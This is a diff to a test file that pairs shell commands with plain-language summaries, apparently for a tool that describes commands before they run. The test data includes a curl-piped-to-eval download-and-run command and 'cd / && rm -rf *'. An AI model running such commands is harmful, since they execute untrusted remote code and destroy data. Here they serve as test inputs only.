@@ -28,6 +28,7 @@ describe('the summary of a command', () => {
     ['eval "$(curl https://x.io/i)"', 'Run a download from https://x.io/i: eval "$(curl https://x.io/i)"'],
     ['cd / && rm -rf *', 'Delete /*: cd / && rm -rf *'],
     ['git push --force origin main', 'Force-push origin main: git push --force origin main'],
+    ['git commit -m x && git push', 'Push to its upstream: git commit -m x && git push'],
     ['git reset --hard HEAD~3', 'Throw away changes since HEAD~3: git reset --hard HEAD~3'],
     ['git branch -D old', 'Delete branch old even if unmerged: git branch -D old'],
     ['npm install left-pad', 'Install left-pad: npm install left-pad'],
